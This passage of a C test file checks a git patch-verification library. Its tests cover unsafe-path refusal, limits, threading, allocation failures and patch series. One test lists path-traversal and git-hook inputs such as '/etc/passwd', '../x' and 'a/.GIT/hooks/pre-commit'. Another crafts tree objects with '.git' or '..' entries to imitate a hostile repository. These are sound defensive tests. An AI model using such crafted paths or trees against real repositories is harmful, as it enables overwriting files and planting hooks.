    ck_assert_int_eq(sbx_patch_check(again), SBX_OK);
    ck_assert_str_eq(sbx_patch_id(again), sbx_patch_id(p));
    sbx_patch_free(again);
    sbx_free(out);

    /* Checked: no more operations. */
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "late.txt", "x\n", 0), SBX_E_MISUSE);
    ck_assert_int_eq(load(p, readme_diff), SBX_E_MISUSE);
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

START_TEST(test_patch_add_file_errors)
{
    static const char *const unsafe[] = {"/etc/passwd", "../x", "a/../../x", ".git/config", "a/.GIT/hooks/pre-commit",
                                         "sub/.git",    "",     "x\ny",      "x\001y"};
    char repo[64];
    sbx_patch *p;
    make_base_repo(repo);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    /* Arguments. */
    ck_assert_int_eq(add(p, SBX_PATCH_RENAMED, "a.txt", "x", 0), SBX_E_INVALID_ARG);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(add(p, SBX_PATCH_COPIED, "a.txt", "x", 0), SBX_E_INVALID_ARG);
    ck_assert_int_eq(add(p, SBX_PATCH_CHANGE_NONE, "a.txt", "x", 0), SBX_E_INVALID_ARG);
    ck_assert_int_eq(add(p, (sbx_patch_change)99, "a.txt", "x", 0), SBX_E_INVALID_ARG);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "a.txt", "x", 0600), SBX_E_INVALID_ARG);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "a.txt", "x", 0777), SBX_E_INVALID_ARG);
    ck_assert_int_ne(add(p, SBX_PATCH_ADDED, "a.txt", "x", 0120000), SBX_OK); /* a symlink */
    ck_assert_int_ne(add(p, SBX_PATCH_ADDED, "a.txt", "x", 0160000), SBX_OK); /* a gitlink */
    ck_assert_int_eq(add(p, SBX_PATCH_DELETED, "gone.txt", "x", 0), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_add_file(p, SBX_PATCH_ADDED, "a.txt", NULL, 3, 0), SBX_E_INVALID_ARG);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, NULL, "x", 0), SBX_E_INVALID_ARG);
    /* Unsafe paths. */
    for (size_t i = 0; i < SBX__ARRAY_LEN(unsafe); i++) {
        sbx_status st = add(p, SBX_PATCH_ADDED, unsafe[i], "x\n", 0);
        ck_assert_msg(st == SBX_E_PATCH, "add_file \"%s\": %s", unsafe[i], sbx_status_name(st));
        /* The refused operation is left out; the patch is not unsafe for it. */
        ck_assert_int_ne(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
        ck_assert_msg(unsafe[i][0] == '\0' || strchr(unsafe[i], '\n') || strchr(unsafe[i], '\001') ||
                          strstr(sbx_patch_last_error(p), unsafe[i]),
                      "add_file \"%s\": %s", unsafe[i], sbx_patch_last_error(p));
        st = add(p, SBX_PATCH_MODIFIED, unsafe[i], "x\n", 0);
        ck_assert_msg(st == SBX_E_PATCH, "add_file MODIFIED \"%s\": %s", unsafe[i], sbx_status_name(st));
        st = add(p, SBX_PATCH_DELETED, unsafe[i], NULL, 0);
        ck_assert_msg(st == SBX_E_PATCH, "add_file DELETED \"%s\": %s", unsafe[i], sbx_status_name(st));
    }
    sbx_patch_free(p);

    /* Operations that do not apply to the base. */
    {
        static const struct {
            sbx_patch_change c;
            const char *path, *data;
        } wont[] = {
            {SBX_PATCH_MODIFIED, "nope.txt", "x\n"},
            {SBX_PATCH_DELETED, "nope.txt", NULL},
            {SBX_PATCH_ADDED, "README", "x\n"},
        };
        static const char *const names[] = {"?", "ADDED", "MODIFIED", "DELETED"};
        for (size_t i = 0; i < SBX__ARRAY_LEN(wont); i++) {
            sbx_status st;
            p = sbx_patch_new();
            ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
            ck_assert_int_eq(add(p, SBX_PATCH_MODIFIED, "src/main.c", "int main(void) { return 0; }\n", 0), SBX_OK);
            st = add(p, wont[i].c, wont[i].path, wont[i].data, 0);
            if (st == SBX_OK)
                st = sbx_patch_check(p);
            /* Refused when added (the operation is left out, the verdict
             * unchanged), or at the check (does not apply). */
            ck_assert_msg(st == SBX_E_PATCH, "%s %s: %s", names[wont[i].c], wont[i].path, sbx_status_name(st));
            ck_assert_msg(strstr(sbx_patch_last_error(p), wont[i].path), "%s", sbx_patch_last_error(p));
            if (sbx_patch_get_verdict(p) == SBX_PATCH_UNCHECKED) {
                ck_assert_msg(sbx_patch_check(p) == SBX_E_PATCH,
                              "%s %s refused when checked: the check then gave %s", names[wont[i].c], wont[i].path,
                              sbx_patch_last_error(p));
                ck_assert_msg(strstr(sbx_patch_last_error(p), wont[i].path), "%s", sbx_patch_last_error(p));
            }
            ck_assert_msg(sbx_patch_get_verdict(p) == SBX_PATCH_DOES_NOT_APPLY,
                          "%s %s: sbx_patch_check gave SBX_E_PATCH, but the verdict is %s: %s", names[wont[i].c],
                          wont[i].path, sbx_patch_verdict_name(sbx_patch_get_verdict(p)), sbx_patch_last_error(p));
            sbx_patch_free(p);
        }
    }

    /* Limits: one file's size, the number of files, the sum of contents. */
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, 10, 2, 4), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "a.txt", "12345", 0), SBX_E_BUDGET_EXCEEDED);
    ck_assert_str_ne(sbx_patch_last_error(p), "");
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "a.txt", "1234", 0), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "b.txt", "1234", 0), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_DELETED, "gone.txt", NULL, 0), SBX_E_BUDGET_EXCEEDED); /* a third file */
    sbx_patch_free(p);
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_limits(p, 10, 0, 0), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, NULL), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "a.txt", "123456", 0), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "b.txt", "1234", 0), SBX_OK); /* 10: at the limit */
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "c.txt", "1", 0), SBX_E_BUDGET_EXCEEDED);
    sbx_patch_free(p);

    /* A diff loaded: no operations. */
    p = sbx_patch_new();
    ck_assert_int_eq(load(p, readme_diff), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_ADDED, "a.txt", "x", 0), SBX_E_MISUSE);
    sbx_patch_free(p);
    remove_tree(repo);
}
END_TEST

/* ---- threads --------------------------------------------------------------------------------- */

/* A base of 300 files (d0..d2/f0..f99.txt, 30 lines each) and a binary
 * file, and a patch (git's, --binary --full-index -M) changing line 15 of
 * every file, deleting one, renaming one with a change, changing the
 * binary file and adding one. Branch "drift" changes line 14 of d2/f50.txt,
 * so the patch does not apply there. */
static char *make_wide_repo(char *dir, size_t *len)
{
    char *diff;
    int status;
    t_git_env();
    make_tmpdir(dir);
    ck_assert_int_eq(
        t_sh("cd '%s' && git init -q -b main . && "
             "awk 'BEGIN { for (d = 0; d < 3; d++) { system(\"mkdir -p d\" d); for (i = 0; i < 100; i++) {"
             " f = \"d\" d \"/f\" i \".txt\"; for (l = 1; l <= 30; l++) print \"d\" d \" f\" i \" line \" l > f;"
             " close(f) } } }' && printf 'bin\\000ary' > d0/blob.bin && git add -A && git commit -q -m base && "
             "git checkout -q -b drift && sed -i '14s/$/ drifted/' d2/f50.txt && git commit -q -am drift && "
             "git checkout -q main && sed -i '15s/$/ changed/' d*/f*.txt && git rm -qf d1/f7.txt && "
             "git mv d2/f3.txt d2/moved.txt && printf 'bin\\000ary2' > d0/blob.bin && echo new > d1/new.txt && "
             "git add -A",
             dir),
        0);
    diff = t_sh_out(len, &status, "cd '%s' && git diff --cached --binary --full-index -M", dir);
    ck_assert_int_eq(status, 0);
    ck_assert_int_eq(t_sh("cd '%s' && git reset -q --hard", dir), 0);
    return diff;
}

/* The patch's verdict, JSON and (when it applies) tree, with this many
 * threads; tree is where the tree is extracted. */
static sbx_patch_verdict wide_check(const char *repo, const char *rev, const char *diff, size_t len, unsigned threads,
                                    char **json, char **error, const char *tree)
{
    sbx_patch *p = sbx_patch_new();
    sbx_patch_verdict v;
    char tar[128];
    ck_assert_int_eq(sbx_patch_set_threads(p, threads), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, rev), SBX_OK);
    ck_assert_msg(sbx_patch_load_data(p, (const uint8_t *)diff, len) == SBX_OK, "%s", sbx_patch_last_error(p));
    (void)sbx_patch_check(p);
    v = sbx_patch_get_verdict(p);
    *error = strdup(v == SBX_PATCH_APPLIES ? "" : sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_to_json(p, json), SBX_OK);
    if (v == SBX_PATCH_APPLIES) {
        snprintf(tar, sizeof tar, "%s.tar.gz", tree);
        ck_assert_msg(sbx_patch_save_tree_file(p, tar) == SBX_OK, "%s", sbx_patch_last_error(p));
        ck_assert_int_eq(t_sh("rm -rf '%s' && mkdir '%s' && tar --warning=no-unknown-keyword -xzf '%s' -C '%s' && rm -f '%s'", tree, tree, tar,
                              tree, tar),
                         0);
    }
    sbx_patch_free(p);
    return v;
}

/* The output of a shell command that prints one line (an object id). */
static void sh_line(char *out, size_t cap, const char *cmd)
{
    size_t len;
    int status;
    char *o = t_sh_out(&len, &status, "%s", cmd);
    ck_assert_msg(status == 0 && len > 0 && len < cap, "%s: exit %d", cmd, status);
    memcpy(out, o, len);
    out[len] = '\0';
    out[strcspn(out, "\n")] = '\0';
    free(o);
}

/* The object id of spec (a git revision) in repo dir, into out (48 bytes). */
static void rev_of(const char *dir, const char *spec, char *out)
{
    char cmd[512];
    snprintf(cmd, sizeof cmd, "cd '%s' && git rev-parse '%s'", dir, spec);
    sh_line(out, 48, cmd);
}

/* Branch `branch` of repo dir: a commit of tree on HEAD. */
static void branch_at_tree(const char *dir, const char *branch, const char *tree)
{
    char cmd[512], commit[48];
    snprintf(cmd, sizeof cmd, "cd '%s' && git commit-tree %s -p HEAD -m %s", dir, tree, branch);
    sh_line(commit, sizeof commit, cmd);
    ck_assert_int_eq(t_sh("cd '%s' && git update-ref refs/heads/%s %s", dir, branch, commit), 0);
}

/* A tree object of raw entries written into repo dir as it is, without
 * git's checks (as a hostile repository could hold it); its id into out
 * (48 bytes). */
static void write_tree(const char *dir, const char *raw, size_t len, char *out)
{
    char path[128], cmd[512];
    snprintf(path, sizeof path, "%s.rawtree", dir);
    t_write_file("/tmp", path + strlen("/tmp/"), raw, len, 0);
    snprintf(cmd, sizeof cmd, "cd '%s' && git hash-object -t tree --literally -w '%s'", dir, path);
    sh_line(out, 48, cmd);
    unlink(path);
}

/* Tree id (in repo dir) with the entry `name` pointing at object `to`
 * instead, written as a tree object without git's checks (as a hostile
 * repository could hold it); its id into out (48 bytes). */
static void tree_with_entry(const char *dir, const char *tree, const char *name, const char *to, char *out)
{
    size_t len, at;
    int status;
    char *raw = t_sh_out(&len, &status, "cd '%s' && git cat-file tree %s", dir, tree);
    ck_assert_int_eq(status, 0);
    /* entries: "<mode> <name>\0<20 bytes>" */
    for (at = 0; at < len;) {
        const char *sp = memchr(raw + at, ' ', len - at);
        const char *nul = sp ? memchr(sp, '\0', len - (size_t)(sp - raw)) : NULL;
        ck_assert_ptr_nonnull(nul);
        if (strcmp(sp + 1, name) == 0) {
            uint8_t *id = (uint8_t *)raw + (nul - raw) + 1;
            for (int k = 0; k < 20; k++) {
                unsigned v;
                ck_assert_int_eq(sscanf(to + 2 * k, "%2x", &v), 1);
                id[k] = (uint8_t)v;
            }
            break;
        }
        at = (size_t)(nul - raw) + 21;
    }
    ck_assert_msg(at < len, "no entry %s in %s", name, tree);
    write_tree(dir, raw, len, out);
    free(raw);
}

/* The wide diff checked on rev with this many threads: the check fails
 * reading the base, the message naming what (also_says). The handle. */
static sbx_patch *broken_check(const char *repo, const char *rev, unsigned threads, const char *diff, size_t len,
                               const char *also_says)
{
    sbx_patch *p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_threads(p, threads), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_base(p, repo, rev), SBX_OK);
    ck_assert_int_eq(sbx_patch_load_data(p, (const uint8_t *)diff, len), SBX_OK);
    ck_assert_int_eq(sbx_patch_check(p), SBX_E_INTERNAL);
    ck_assert_msg(strstr(sbx_patch_last_error(p), "reading the base") && strstr(sbx_patch_last_error(p), also_says),
                  "threads %u: %s", threads, sbx_patch_last_error(p));
    ck_assert_int_ne(sbx_patch_get_verdict(p), SBX_PATCH_APPLIES);
    return p;
}

/* The base's objects are read without libgit2's hashing of each one, so
 * what that hashing also caught is caught here: an object the tree names
 * that is missing, and one that is not a blob where the tree says a file,
 * fail the check with a message, on one thread and on several, and
 * nothing is saved. */
START_TEST(test_patch_broken_base_repository)
{
    static const unsigned counts[] = {1, 2, 0};
    char repo[64], blob[48], d0[48], d1[48], root[48], head[48];
    size_t len;
    char *diff = make_wide_repo(repo, &len);

    /* "typo": d1/f20.txt (mode 100644) names the tree d0. */
    rev_of(repo, "HEAD:d0", d0);
    rev_of(repo, "HEAD:d1", d1);
    rev_of(repo, "HEAD^{tree}", head);
    tree_with_entry(repo, d1, "f20.txt", d0, d1);
    tree_with_entry(repo, head, "d1", d1, root);
    branch_at_tree(repo, "typo", root);
    for (size_t k = 0; k < SBX__ARRAY_LEN(counts); k++) {
        sbx_patch *p = broken_check(repo, "typo", counts[k], diff, len, "not a blob");
        ck_assert_int_eq(sbx_patch_save_tree_file(p, "/tmp/sbx-patch-broken.tar.gz"), SBX_E_MISUSE);
        ck_assert_int_eq(access("/tmp/sbx-patch-broken.tar.gz", F_OK), -1);
        sbx_patch_free(p);
    }

    /* A blob of the base gone from the object database. */
    rev_of(repo, "HEAD:d1/f20.txt", blob);
    ck_assert_int_eq(t_sh("rm -f '%s/.git/objects/%.2s/%s'", repo, blob, blob + 2), 0);
    for (size_t k = 0; k < SBX__ARRAY_LEN(counts); k++)
        sbx_patch_free(broken_check(repo, "main", counts[k], diff, len, blob));
    free(diff);
    remove_tree(repo);
}
END_TEST

/* A hostile base (a repository received from someone else) whose tree holds
 * a directory named ".git", ".GIT" or "..", which git itself never writes:
 * the patch checks (it touches other files), but the patched tree is not
 * written, to a directory or a tarball, and nothing lands beside it. */
START_TEST(test_patch_hostile_base_tree)
{
    static const char *const names[] = {".git", ".GIT", "..", ".git. ", "GIT~1"};
    char repo[64], src[48], head[48], root[48], out[128], tgz[140];
    make_base_repo(repo);
    rev_of(repo, "HEAD:src", src);
    rev_of(repo, "HEAD^{tree}", head);
    for (size_t k = 0; k < SBX__ARRAY_LEN(names); k++) {
        size_t len, n;
        int status;
        char *raw = t_sh_out(&len, &status, "cd '%s' && git cat-file tree %s", repo, head), *tree;
        sbx_patch *p;
        ck_assert_int_eq(status, 0);
        /* The entry first: '.' sorts before every name of the base. */
        ck_assert_ptr_nonnull(tree = malloc(len + 64));
        n = (size_t)snprintf(tree, 64, "40000 %s", names[k]) + 1;
        for (int b = 0; b < 20; b++) {
            unsigned v;
            ck_assert_int_eq(sscanf(src + 2 * b, "%2x", &v), 1);
            tree[n++] = (char)v;
        }
        memcpy(tree + n, raw, len);
        write_tree(repo, tree, n + len, root);
        free(tree);
        free(raw);
        branch_at_tree(repo, "hostile", root);

        snprintf(out, sizeof out, "%s.out/tree", repo);
        snprintf(tgz, sizeof tgz, "%s.out/tree.tar.gz", repo);
        ck_assert_int_eq(t_sh("rm -rf '%s.out' && mkdir '%s.out'", repo, repo), 0);
        p = sbx_patch_new();
        ck_assert_int_eq(sbx_patch_set_base(p, repo, "hostile"), SBX_OK);
        ck_assert_int_eq(load(p, readme_diff), SBX_OK);
        ck_assert_msg(sbx_patch_check(p) == SBX_OK, "%s: %s", names[k], sbx_patch_last_error(p));
        ck_assert_int_ne(sbx_patch_save_tree_dir(p, out), SBX_OK);
        ck_assert_msg(strstr(sbx_patch_last_error(p), "the base holds an entry git does not check out") &&
                          strstr(sbx_patch_last_error(p), names[k]),
                      "%s: %s", names[k], sbx_patch_last_error(p));
        ck_assert_int_ne(sbx_patch_save_tree_file(p, tgz), SBX_OK);
        {
            /* nor is a series on it, nor file operations */
            sbx_patch *q = sbx_patch_new();
            ck_assert_int_eq(sbx_patch_set_base_patch(q, p), SBX_E_INTERNAL);
            ck_assert_ptr_nonnull(strstr(sbx_patch_last_error(q), "does not check out"));
            sbx_patch_free(q);
            q = sbx_patch_new();
            ck_assert_int_eq(sbx_patch_set_base(q, repo, "hostile"), SBX_OK);
            ck_assert_int_eq(add(q, SBX_PATCH_MODIFIED, "README", "hello\nthere\n", 0644), SBX_OK);
            ck_assert_int_eq(sbx_patch_check(q), SBX_E_INTERNAL);
            ck_assert_ptr_nonnull(strstr(sbx_patch_last_error(q), "does not check out"));
            sbx_patch_free(q);
        }
        sbx_patch_free(p);
        /* nothing written: not the tree, its temporary, the tarball, nor
         * the base's src/ beside them */
        ck_assert_msg(t_sh("test -z \"$(ls -A '%s.out')\" && ! test -e '%s/main.c'", repo, repo) == 0,
                      "%s: something was written", names[k]);
    }
    t_sh("rm -rf '%s.out'", repo);
    remove_tree(repo);
}
END_TEST

/* Files read and applied ahead on threads give what one thread gives, and
 * what git gives: the verdict, the message naming the file, the JSON (files,
 * diffstat, patch id), the tree. */
START_TEST(test_patch_threads_same_result)
{
    char repo[64], wt[96], tree[96], diff_path[96], index[96];
    static const unsigned counts[] = {1, 2, 3, 8, 0};
    char *json1 = NULL, *err1 = NULL, *twice;
    size_t len, twice_len;
    char *diff = make_wide_repo(repo, &len);
    snprintf(wt, sizeof wt, "%s.wt", repo);
    snprintf(tree, sizeof tree, "%s.tree", repo);
    snprintf(diff_path, sizeof diff_path, "%s.diff", repo);
    snprintf(index, sizeof index, "%s.index", repo);
    t_write_file("/tmp", diff_path + strlen("/tmp/"), diff, len, 0);
    /* git's result, in a copy of the work tree. */
    ck_assert_int_eq(t_sh("git clone -q '%s' '%s' && cd '%s' && git apply '%s'", repo, wt, wt, diff_path), 0);

    for (size_t k = 0; k < SBX__ARRAY_LEN(counts); k++) {
        char *json, *err;
        ck_assert_int_eq(wide_check(repo, NULL, diff, len, counts[k], &json, &err, tree), SBX_PATCH_APPLIES);
        ck_assert_msg(t_sh("diff -r --exclude=.git '%s' '%s' >&2", wt, tree) == 0, "threads %u: not git's tree",
                      counts[k]);
        if (!json1) {
            json1 = json;
            free(err);
            ck_assert_ptr_nonnull(strstr(json1, "\"d2/moved.txt\""));
            continue;
        }
        ck_assert_msg(strcmp(json, json1) == 0, "threads %u: %s\nthreads 1: %s", counts[k], json, json1);
        free(json);
        free(err);
    }
    free(json1);
    json1 = NULL;

    /* Against "drift": git refuses, and so does every thread count, naming
     * the file. */
    ck_assert_int_eq(t_git_applies(repo, "drift", diff_path, index), 0);
    for (size_t k = 0; k < SBX__ARRAY_LEN(counts); k++) {
        char *json, *err;
        ck_assert_int_eq(wide_check(repo, "drift", diff, len, counts[k], &json, &err, tree),
                         SBX_PATCH_DOES_NOT_APPLY);
        ck_assert_msg(strstr(err, "d2/f50.txt") != NULL, "threads %u: %s", counts[k], err);
        if (!err1) {
            err1 = err;
            json1 = json;
            continue;
        }
        ck_assert_str_eq(err, err1);
        ck_assert_str_eq(json, json1);
        free(json);
        free(err);
    }
    free(err1);
    free(json1);
    json1 = NULL;

    /* A file changed twice in one patch: the second part applies to what
     * the first left (read ahead, it was applied to the base: unused). */
    {
        size_t more_len;
        int status;
        char *more = t_sh_out(&more_len, &status,
                              "cd '%s' && git add -A && git commit -q -m applied && sed -i '16s/$/ again/' d0/f1.txt && "
                              "git diff",
                              wt);
        ck_assert_int_eq(status, 0);
        ck_assert_ptr_nonnull(twice = malloc(len + more_len + 1));
        memcpy(twice, diff, len);
        memcpy(twice + len, more, more_len);
        twice_len = len + more_len;
        twice[twice_len] = '\0';
        free(more);
        /* git applies it too, and wt's files are its result */
        t_write_file("/tmp", diff_path + strlen("/tmp/"), twice, twice_len, 0);
        ck_assert_int_eq(t_git_applies(repo, "main", diff_path, index), 1);
    }
    for (size_t k = 0; k < SBX__ARRAY_LEN(counts); k++) {
        char *json, *err;
        ck_assert_int_eq(wide_check(repo, NULL, twice, twice_len, counts[k], &json, &err, tree), SBX_PATCH_APPLIES);
        ck_assert_msg(t_sh("diff -r --exclude=.git '%s' '%s' >&2", wt, tree) == 0, "threads %u: not git's tree",
                      counts[k]);
        free(json);
        free(err);
    }
    free(twice);
    free(diff);
    t_sh("rm -rf '%s' '%s' '%s' '%s'", wt, tree, diff_path, index);
    remove_tree(repo);
}
END_TEST

START_TEST(test_patch_set_threads_arguments)
{
    sbx_patch *p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_threads(NULL, 2), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_set_threads(p, 9), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_set_threads(p, SIZE_MAX), SBX_E_INVALID_ARG);
    ck_assert_ptr_nonnull(strstr(sbx_patch_last_error(p), "threads"));
    ck_assert_int_eq(sbx_patch_set_threads(p, 8), SBX_OK);
    ck_assert_int_eq(sbx_patch_set_threads(p, 0), SBX_OK);
    sbx_patch_free(p);
}
END_TEST

/* ---- allocation failures --------------------------------------------------------------------- */

struct oom_ctx {
    const char *repo;
    unsigned threads;
};

static sbx_status oom_load_check(void *ctx)
{
    const struct oom_ctx *c = ctx;
    const char *repo = c->repo;
    sbx_patch *p = sbx_patch_new();
    sbx_status st;
    if (!p)
        return SBX_E_NOMEM;
    st = sbx_patch_set_threads(p, c->threads);
    if (st == SBX_OK && repo)
        st = sbx_patch_set_base(p, repo, NULL);
    if (st == SBX_OK)
        st = load(p, multi_diff);
    if (st == SBX_OK)
        st = sbx_patch_check(p);
    if (st == SBX_OK &&
        (sbx_patch_get_verdict(p) != (repo ? SBX_PATCH_APPLIES : SBX_PATCH_SAFE) || sbx_patch_file_count(p) != 6 ||
         strcmp(sbx_patch_id(p), multi_diff_id) != 0))
        st = SBX_E_INTERNAL;
    if (st != SBX_OK && st != SBX_E_NOMEM)
        fprintf(stderr, "oom_load_check: %s: %s\n", sbx_status_name(st), sbx_patch_last_error(p));
    sbx_patch_free(p);
    return st;
}

/* The patched tree written out: on a failure nothing is left, neither
 * the directory nor its temporary. */
static sbx_status oom_save_tree(void *ctx)
{
    const char *repo = ctx;
    char out[128], tgz[140];
    sbx_patch *p = sbx_patch_new();
    sbx_status st;
    if (!p)
        return SBX_E_NOMEM;
    snprintf(out, sizeof out, "%s.oom-tree", repo);
    snprintf(tgz, sizeof tgz, "%s.oom.tar.gz", repo);
    st = sbx_patch_set_base(p, repo, NULL);
    if (st == SBX_OK)
        st = load(p, multi_diff);
    if (st == SBX_OK)
        st = sbx_patch_check(p);
    if (st == SBX_OK) {
        st = sbx_patch_save_tree_dir(p, out);
        ck_assert_int_eq(t_sh("ls -d '%s'.tmp.* 2>/dev/null | wc -l | grep -qx 0", out), 0);
        if (st == SBX_OK)
            ck_assert_int_eq(t_sh("grep -q 'int b = 3;' '%s/src/main.c' && test -x '%s/tools/run.sh'", out, out), 0);
        else
            ck_assert_int_eq(access(out, F_OK), -1);
        remove_tree(out);
    }
    if (st == SBX_OK) {
        st = sbx_patch_save_tree_file(p, tgz);
        ck_assert_int_eq(access(tgz, F_OK), st == SBX_OK ? 0 : -1);
        unlink(tgz);
    }
    sbx_patch_free(p);
    return st;
}

/* A checked patch of text on prev's tree (NULL: the base at HEAD). */
static sbx_patch *series_step(const char *repo, const sbx_patch *prev, const char *text, size_t len)
{
    sbx_patch *p = sbx_patch_new();
    sbx_status st = prev ? sbx_patch_set_base_patch(p, prev) : sbx_patch_set_base(p, repo, NULL);
    ck_assert_msg(st == SBX_OK, "%s: %s", sbx_status_name(st), sbx_patch_last_error(p));
    ck_assert_int_eq(sbx_patch_load_data(p, (const uint8_t *)text, len), SBX_OK);
    (void)sbx_patch_check(p);
    return p;
}

/* A series: each patch checked against the tree the ones before it leave,
 * as git applies them in turn (git's tree is made by applying them to a
 * clone). The second changes what the first added, renamed, changed in
 * binary, and deleted: it does not apply to the base alone. Either handle
 * can be freed first, and the last one's tree is the whole series'. */
START_TEST(test_patch_series)
{
    char repo[64], wt[96], tree[96], diff_path[96], index[96];
    size_t len, len3;
    int status;
    char *second, *third;
    sbx_patch *first, *p, *q;
    uint8_t *saved = NULL;
    size_t saved_len = 0;
    make_base_repo(repo);
    snprintf(wt, sizeof wt, "%s.wt", repo);
    snprintf(tree, sizeof tree, "%s.tree", repo);
    snprintf(diff_path, sizeof diff_path, "%s.diff", repo);
    snprintf(index, sizeof index, "%s.index", repo);
    t_write_file("/tmp", diff_path + strlen("/tmp/"), multi_diff, strlen(multi_diff), 0);
    second = t_sh_out(&len, &status,
                      "git clone -q '%s' '%s' && cd '%s' && git apply --index '%s' && git commit -q -m first && "
                      "echo more >> docs/new.md && sed -i 's/FIVE/five again/' new/name.txt && "
                      "printf 'bin\\000ary\\001' > img.bin && echo back > gone.txt && git add -A && "
                      "git diff --cached --binary --full-index && git commit -q -m second",
                      repo, wt, wt, diff_path);
    ck_assert_int_eq(status, 0);
    third = t_sh_out(&len3, &status, "cd '%s' && echo last >> docs/new.md && git diff && git commit -q -am third", wt);
    ck_assert_int_eq(status, 0);
    t_write_file("/tmp", diff_path + strlen("/tmp/"), second, len, 0);
    ck_assert_int_eq(t_git_applies(repo, "main", diff_path, index), 0);

    first = series_step(repo, NULL, multi_diff, strlen(multi_diff));
    ck_assert_int_eq(sbx_patch_get_verdict(first), SBX_PATCH_APPLIES);
    /* alone, on the base, the second does not apply */
    p = series_step(repo, NULL, second, len);
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_DOES_NOT_APPLY);
    sbx_patch_free(p);
    p = series_step(repo, first, second, len);
    ck_assert_msg(sbx_patch_get_verdict(p) == SBX_PATCH_APPLIES, "%s", sbx_patch_last_error(p));
    ck_assert_uint_eq(sbx_patch_file_count(p), 4);
    sbx_patch_free(first); /* p keeps what it needs */
    q = series_step(repo, p, third, len3);
    sbx_patch_free(p);
    ck_assert_msg(sbx_patch_get_verdict(q) == SBX_PATCH_APPLIES, "%s", sbx_patch_last_error(q));
    ck_assert_int_eq(sbx_patch_save_tree_dir(q, tree), SBX_OK);
    ck_assert_msg(t_sh("diff -r --exclude=.git '%s' '%s' >&2", wt, tree) == 0, "not git's tree");
    /* the diff of q is its own */
    ck_assert_int_eq(sbx_patch_save_data(q, &saved, &saved_len), SBX_OK);
    ck_assert_uint_eq(saved_len, len3);
    sbx_free(saved);
    sbx_patch_free(q);

    /* File operations on the tree of a patch. */
    first = series_step(repo, NULL, multi_diff, strlen(multi_diff));
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base_patch(p, first), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_MODIFIED, "docs/new.md", "# Newer\n", 0644), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_DELETED, "new/name.txt", NULL, 0), SBX_OK);
    ck_assert_msg(sbx_patch_check(p) == SBX_OK, "%s", sbx_patch_last_error(p));
    sbx_patch_free(p);
    /* what the first deleted is not there for the second */
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base_patch(p, first), SBX_OK);
    ck_assert_int_eq(add(p, SBX_PATCH_MODIFIED, "gone.txt", "x\n", 0644), SBX_OK);
    ck_assert_int_eq(sbx_patch_check(p), SBX_E_PATCH);
    ck_assert_int_eq(sbx_patch_get_verdict(p), SBX_PATCH_DOES_NOT_APPLY);
    sbx_patch_free(p);

    /* Arguments and states. */
    p = sbx_patch_new();
    ck_assert_int_eq(sbx_patch_set_base_patch(NULL, first), SBX_E_INVALID_ARG);
    ck_assert_int_eq(sbx_patch_set_base_patch(p, NULL), SBX_E_INVALID_ARG);
    ck_assert_ptr_nonnull(strstr(sbx_patch_last_error(p), "prev is NULL"));
    ck_assert_int_eq(sbx_patch_set_base_patch(p, p), SBX_E_INVALID_ARG);
    {
        sbx_patch *unchecked = sbx_patch_new(), *safe_only = sbx_patch_new(), *stale;
        ck_assert_int_eq(sbx_patch_set_base_patch(p, unchecked), SBX_E_MISUSE);
        ck_assert_msg(strstr(sbx_patch_last_error(p), "unchecked"), "%s", sbx_patch_last_error(p));
        ck_assert_int_eq(load(safe_only, readme_diff), SBX_OK);
        ck_assert_int_eq(sbx_patch_check(safe_only), SBX_OK); /* safe, with no base */
        ck_assert_int_eq(sbx_patch_set_base_patch(p, safe_only), SBX_E_MISUSE);
        ck_assert_msg(strstr(sbx_patch_last_error(p), "without a base"), "%s", sbx_patch_last_error(p));
        stale = series_step(repo, NULL, second, len);
        ck_assert_int_eq(sbx_patch_set_base_patch(p, stale), SBX_E_MISUSE);
        ck_assert_msg(strstr(sbx_patch_last_error(p), "does-not-apply"), "%s", sbx_patch_last_error(p));
        sbx_patch_free(unchecked);
        sbx_patch_free(safe_only);
        sbx_patch_free(stale);
    }
    sbx_patch_free(p);
    p = series_step(repo, NULL, readme_diff, strlen(readme_diff));
    ck_assert_int_eq(sbx_patch_set_base_patch(p, first), SBX_E_MISUSE); /* p is checked */
    sbx_patch_free(p);
    sbx_patch_free(first);
    free(second);
    free(third);
    t_sh("rm -rf '%s' '%s' '%s' '%s'", wt, tree, diff_path, index);
    remove_tree(repo);
}
END_TEST

/* A series on threads: the base files of the second patch that the first
 * changed are in the handle's memory only, not in the repositories the
